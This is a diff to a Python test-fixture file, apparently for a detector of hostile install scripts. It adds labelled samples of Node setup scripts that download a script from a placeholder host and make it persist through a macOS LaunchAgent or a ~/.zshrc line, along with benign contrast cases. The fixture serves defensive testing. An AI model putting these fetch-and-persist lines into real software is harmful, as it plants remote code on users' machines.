@@ -10,6 +10,18 @@ _UNPACKED = (
     "    return os.path.join(folder, 'bin', 'a')\nprogram = fetch(tempfile.mkdtemp())\n"
 )
 
+_HELPER = (
+    "import { writeFileSync, appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\n"
+    "const kept = `${homedir()}/.a/a.sh`;\nconst text = await (await fetch('https://a.invalid')).text();\n"
+)
+_AGENT = "`${homedir()}/Library/LaunchAgents/a.plist`"
+
+
+def _kept(text: str) -> dict[str, str | bytes]:
+    """A program that somebody asks to set up a helper, whose fifth line this is."""
+    return {"package.json": package(setup="node setup/a.mjs"), "setup/a.mjs": _HELPER + text}
+
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_command": {
         "a downloader saves what the interpreter then runs": py(
@@ -22,6 +34,18 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "const { execSync } = require('child_process');\nconst kept = require('path').join(process.cwd(), 'a');\n"
             "execSync(`curl -s https://a.invalid -o ${kept}`);\nexecSync(`bash ${kept}`);\n",
             line=4,
+        ),
+        "what was saved is named where the system starts things": Sample(
+            _kept(
+                f"writeFileSync(kept, text); writeFileSync({_AGENT}, `<string>/bin/sh</string><string>${{kept}}`);\n"
+            ),
+            "block",
+            ("setup/a.mjs", 5),
+        ),
+        "and where each shell begins": Sample(
+            _kept("writeFileSync(kept, text);\nappendFileSync(`${homedir()}/.zshrc`, `source ${kept}\\n`);\n"),
+            "block",
+            ("setup/a.mjs", 6),
         ),
         "an archive is fetched into a folder, and a program of it run": py(
             _UNPACKED + "subprocess.run([program])\n", "review", line=7
@@ -59,6 +83,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "remote_command": {
+        "what was saved is named in the folder itself": _kept(
+            "writeFileSync(kept, text); writeFileSync('build/a.plist', `<string>/bin/sh</string><string>${kept}`);\n"
+        ),
+        "another program is named where the system starts things": _kept(
+            f"writeFileSync(kept, text); writeFileSync({_AGENT}, `<string>/usr/bin/true</string>`);\n"
+        ),
         "a downloader saves what is then hashed": py(
             "import subprocess\nkept = '/tmp/a.tgz'\n"
             "subprocess.run(['curl', '-sL', 'https://a.invalid', '-o', kept])\n"
